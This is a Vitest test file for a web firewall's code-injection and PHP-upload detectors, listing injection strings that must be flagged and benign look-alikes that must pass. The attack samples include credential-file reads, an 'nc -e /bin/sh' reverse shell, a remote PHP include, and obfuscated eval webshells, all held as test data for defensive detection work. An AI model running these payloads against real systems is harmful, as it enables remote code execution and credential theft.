import { describe, expect, it } from 'vitest';
import { code, detectExhaustive, phpUpload, SCAN_LIMIT } from './index.js';
import { seededRandom } from '../../../test/helpers/seeded.js';

/** Hand-written attacks (none copied from a corpus): value, expected reason. All count at paranoia 1. */
const ATTACKS: ReadonlyArray<readonly [string, string]> = [
  // Node.js
  ["require('child_process').execSync('cat /etc/hosts')", 'node-code'],
  ['require("fs").readFileSync("/etc/shadow")', 'node-code'],
  ["process.mainModule.require('child_process').exec('uname')", 'node-code'],
  ["global.process.kill(1)", 'node-code'],
  ["this.constructor.constructor('return process')().exit()", 'node-code'],
  ["new Function('return this.process')()", 'node-code'],
  ["eval(String.fromCharCode(114,101,113))", 'eval-call'],
  ["eval(atob('cmVxdWlyZQ=='))", 'eval-call'],
  ["x=1;eval(\"require('os').userInfo()\")", 'node-code'],
  ["eval(unescape('%61%6c%65%72%74'))", 'eval-call'],
  ['{"rce":"_$$ND_FUNC$$_function(){return 1}()"}', 'node-code'],
  ['while(!0){}', 'node-code'],
  ['module.exports = function(){ return 2 }', 'node-code'],
  ['process["env"]', 'node-code'],
  // PHP
  ['<?php passthru($_REQUEST["k"]); ?>', 'php-code'],
  ['<?= `whoami` ?>', 'php-code'],
  ['<? print_r(scandir(".")); ?>', 'php-code'],
  ["name=x;system('sleep 9')", 'php-code'],
  ['shell_exec("id > /tmp/o")', 'php-code'],
  ["assert($_COOKIE['z'])", 'php-code'],
  ['eval(gzuncompress(base64_decode("eJzLSM3JyVcozy/KSQEAGgQEXQ==")))', 'php-code'],
  ["preg_replace('/.*/e', 'phpinfo()', 'a')", 'php-code'],
  ["create_function('$x', 'return `ls`;')", 'php-code'],
  ['@popen("nc -e /bin/sh 10.0.0.9 4444", "r")', 'php-code'],
  ["proc_open('bash', [], $pipes)", 'php-code'],
  ['O:5:"Shell":1:{s:3:"cmd";s:2:"id";}', 'php-code'],
  ['$fn = "sys"."tem"; $fn("id");', 'php-code'],
  ['("pass"."thru")("id");', 'php-code'],
  ['$x{0}($_POST[1])', 'php-code'],
  ['allow_url_include=On', 'php-code'],
  ['[php]echo 1;[/php]', 'php-code'],
  ["'.system('uname -a').'", 'php-code'],
  ["include 'http://198.51.100.7/x.txt';", 'php-code'],
  ['data://text/plain;base64,' + Buffer.from('<?php passthru("id"); ?>').toString('base64'), 'php-code'],
  // Python
  ["__import__('os').popen('id').read()", 'python-code'],
  ["os.system('ping -c 1 10.1.1.1')", 'python-code'],
  ["subprocess.check_output(['cat','/etc/passwd'])", 'python-code'],
  ["eval(compile('import os', 'x', 'exec'))", 'python-code'],
  ["exec('import socket,pty')", 'python-code'],
  // Ruby
  ["Kernel.exec('id')", 'ruby-code'],
  ['IO.popen("uname -a").read', 'ruby-code'],
  ['Process.spawn("touch /tmp/pwn")', 'ruby-code'],
  ['%x(cat /etc/issue)', 'ruby-code'],
  // Perl
  ['@{[ system "date" ]}', 'perl-code'],
  ["open(my $fh, '| /bin/sh')", 'perl-code'],
  ['qx{ls -la}', 'perl-code'],
  ['system "cat /etc/passwd";', 'perl-code'],
  ['eval { system("id") }', 'perl-code'],
];

/** Benign values that look a little like code: none may be flagged at any paranoia level. */
const BENIGN: readonly string[] = [
  'the system (of record) is down',
  'exec summary attached',
  'we require a password of 12 characters',
  'the eval period ends in May',
  'please process my refund',
  'process',
  'require.js',
  'system.php.bak is an old backup',
  'Describe the file(s) you uploaded',
  'Which system(s) are affected?',
  'Execute (run) the report',
  '{"price": 12.5, "qty": (3)}',
  '{"user":{"name":"Ann","roles":["admin","dev"]}}',
  '(2 + 3) * 4 = 20',
  'f(x) = x^2 + 1',
  'sqrt(16) + max(1, 2)',
  'Hello ${firstName}, your order shipped',
  'price: $5 (discount applied)',
  'Total $USD (approx.)',
  'My PHP version is 8.2, is that supported?',
  'I use os.path.join in my script',
  'JSON.parse(body) throws on empty input',
  'arr.map(fn).filter(Boolean)',
  'print("hello world")',
  'str.substr(1, 3)',
  "re.exec('abc')",
  'the constructor of the class',
  'https://example.com/index.php?page=2',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)',
  'en-US,en;q=0.9',
  'session_id=abc123; theme=dark',
  'O:8 is the opening gate',
  'global warming and the global economy',
  'We use IO completion ports',
  'a.b@example.com',
  'Processing (step 2 of 3)',
  '<?xml version="1.0" encoding="UTF-8"?><note>hi</note>',
  'include (optional): notes',
  'while (you wait) enjoy the music',
  'for (;;) is a loop in C',
  'Is the eval() function evil? I read it is.',
  'mkdir -p build && cd build',
  'query Core_Search($q: String) { search(q: $q) { id } }',
  'Cost: 5% x (3 items)',
  "include 'Bob' and 'Ann' in the invite",
  'the exec "summary" is due',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
];

describe('server-side code injection', () => {
  it.each(ATTACKS)('%s is flagged (%s)', (value, reason) => {
    const d = code.detect(value);
    expect(d, value).toBeDefined();
    expect(d!.reason).toBe(reason);
    expect(d!.detector).toBe('code');
    expect(d!.paranoia ?? 1).toBe(1);
    expect(d!.confidence).toBeGreaterThanOrEqual(0.6);
    expect(d!.fragment.length).toBeLessThanOrEqual(64);
  });

  it.each(BENIGN)('%s passes', (value) => {
    expect(code.detect(value), value).toBeUndefined();
  });

  it('has enough cases', () => {
    expect(ATTACKS.length).toBeGreaterThanOrEqual(30);
    expect(BENIGN.length).toBeGreaterThanOrEqual(30);
  });

  it('rates calls above bare names: a dangerous name alone counts only from paranoia 2', () => {
    const bare = code.detect('notes about base64_decode and shell_exec');
    expect(bare).toMatchObject({ reason: 'php-code', paranoia: 2 });
    expect(bare!.confidence).toBeLessThan(0.6);
    expect(code.detect('base64_decode($x)')!.confidence).toBeGreaterThan(bare!.confidence);
    expect(code.detect('a mention of child_process in the docs')).toMatchObject({ paranoia: 2 });
  });

  it('reads base64 values as their text', () => {
    const encoded = Buffer.from("require('child_process').spawn('id')").toString('base64');
    expect(code.detect(encoded)).toMatchObject({ reason: 'node-code' });
    expect(code.detect(Buffer.from('just a plain sentence here').toString('base64'))).toBeUndefined();
    // JS escapes inside the encoded text are undone too.
    expect(code.detect(Buffer.from('\\u0072equire("child_process").exec("id")').toString('base64'))).toMatchObject({ reason: 'node-code' });
  });

  it('scans the first and the last SCAN_LIMIT characters of a 1 MB value, in linear time', () => {
    const filler = 'lorem ipsum (dolor) sit amet, consectetur $adipiscing elit; '.repeat(Math.ceil(1_048_576 / 60)).slice(0, 1_048_576);
    const t0 = performance.now();
    expect(code.detect(filler)).toBeUndefined();
    expect(code.detect(`${filler}<?php system($_GET['c']); ?>`)).toMatchObject({ reason: 'php-code' });
    expect(code.detect(`os.system('id') ${filler}`)).toMatchObject({ reason: 'python-code' });
    // In the middle, beyond both windows: not read.
    const middle = `${filler.slice(0, 500_000)}<?php system('id'); ?>${filler.slice(0, 500_000)}`;
    expect(code.detect(middle)).toBeUndefined();
    // Adversarial repetitions of the rules' own openers stay fast.
    for (const unit of ['$a[', '${', '(system)', '<? ', '@{[', 'eval(', '$_', 'chr(1).', '/*', 'a_b_c(', '((((']) {
      code.detect(unit.repeat(Math.ceil(1_048_576 / unit.length)));
      detectExhaustive(unit.repeat(Math.ceil(2 * SCAN_LIMIT / unit.length)));
    }
    expect(performance.now() - t0).toBeLessThan(3000);
  });

  it('stays linear on pathological values: rule openers followed by long runs of what their repetitions take', () => {
    const heads = ['while(', 'for(', 'eval(', 'system', '$a', '${', '<? ', '@{[', 'require(', 'process[', 'os.', '%x', 'qx', 'open ', 'define(', "('system'", '[system]', 'chr', 'a_b(', 'O:1:"', 'a:1:{', 'new ', 'console.', 'memory_limit', '$x[', 'base64_decode', "'sys'.", 'exec ('];
    const pads = [' ', '\t', '\n', '(', '!', '$', '.', '/**/', '[', '{', '@', "'", '_', 'a', '=', '*', '#'];
    const t0 = performance.now();
    let slowest = 0;
    for (const h of heads) {
      for (const p of pads) {
        const v = (h + p.repeat(Math.ceil(SCAN_LIMIT / p.length))).slice(0, SCAN_LIMIT);
        // The least of three runs: backtracking is slow every time, a busy machine only sometimes.
        let least = Infinity;
        for (let i = 0; i < 3; i++) {
          const t = performance.now();
          code.detect(v);
          least = Math.min(least, performance.now() - t);
        }
        slowest = Math.max(slowest, least);
      }
    }
    expect(slowest).toBeLessThan(50);
    expect(performance.now() - t0).toBeLessThan(15_000);
  });

  it('keeps fragments to 64 characters', () => {
    const long = `<?php ${'x'.repeat(200)}`;
    expect(code.detect(long)!.fragment.length).toBeLessThanOrEqual(64);
    expect(code.detect(`${'a_'.repeat(40)}b('x')`)?.fragment.length ?? 0).toBeLessThanOrEqual(64);
  });

  it('the character and key pre-checks never hide a finding (differential test against the exhaustive scan)', () => {
    const pieces = [
      'system', 'exec', 'eval', 'assert', 'passthru', 'shell_exec', 'base64_decode', 'popen', 'proc_open', 'include', 'require',
      'process', 'mainModule', 'child_process', 'constructor', 'global', 'module', 'exports', 'Function', 'new', 'while', 'for',
      'os', 'subprocess', '__import__', 'Kernel', 'IO', 'Process', 'spawn', 'qx', 'open', 'php', 'chr', 'substr', 'array_map', 'memory_limit',
      'opcache.enable', '$_GET', '$GLOBALS', '$a', '$', '_', '@', '(', ')', '((', "'", '"', '`', '.', ',', ';', '=', ':', '[', ']', '{', '}',
      '<?', '<?php', '<?=', '?>', '%x', '/', '\\', '*', '/*', '*/', '#', '\n', ' ', 'O:4:"Test":1:{', 'a:1:{i:0;', 'id', 'ls', '1', '0', 'true', 'the', 'cats',
    ];
    const rand = seededRandom(20261203);
    let fired = 0;
    for (let n = 0; n < 20_000; n++) {
      const len = 1 + rand(7);
      const parts: string[] = [];
      for (let k = 0; k < len; k++) parts.push(pieces[rand(pieces.length)]!);
      const value = parts.join(rand(3) === 0 ? '' : rand(2) === 0 ? ' ' : '(');
      const exhaustive = detectExhaustive(value);
      if (exhaustive) fired++;
      expect(code.detect(value), value).toEqual(exhaustive);
    }
    for (const [value] of ATTACKS) expect(code.detect(value), value).toEqual(detectExhaustive(value));
    for (const value of BENIGN) expect(detectExhaustive(value), value).toBeUndefined();
    // The generator must reach the rules, or the comparison proves nothing.
    expect(fired).toBeGreaterThan(1000);
  });
});

describe('PHP script and session uploads', () => {
  it.each(['shell.php', 'avatar.phtml', 'x.php5', 'evil.phar ', 'photo. php', 'up/load.php...', 'sess_0123456789abcdef0123', 'C:\\tmp\\sess_aaaaaaaaaaaaaaaaaaaa',
    '.htaccess', 'uploads/.user.ini', 'web.config', 'PHP.INI', '.env', '.env.production', 'settings.local.php', 'config_prod.yml', 'parameters.yaml', 'local.xml ', '.boto'])('%s is flagged', (name) => {
    expect(phpUpload.detect(name)).toBeDefined();
  });
  it.each(['photo.png', 'index.php.txt', 'https://example.com/index.php', '/app/serverComponent.php', 'page=a.php', 'session', 'sess_short', 'report.pdf',
    'htaccess-guide.pdf', 'my.env.notes.txt', 'web.config.example.txt', 'config.yml.bak.zip', 'environment.png'])('%s passes', (name) => {
    expect(phpUpload.detect(name)).toBeUndefined();
  });
  it('judges file names only: upload headers and body values', () => {
    expect(phpUpload.appliesTo!('header', 'x-filename')).toBe(true);
    expect(phpUpload.appliesTo!('header', 'x-file-name')).toBe(true);
    expect(phpUpload.appliesTo!('header', 'referer')).toBe(false);
    expect(phpUpload.appliesTo!('query', 'page')).toBe(false);
    expect(phpUpload.appliesTo!('file-name', 'file')).toBe(true);
    expect(phpUpload.appliesTo!('body', 'page')).toBe(false);
  });
});
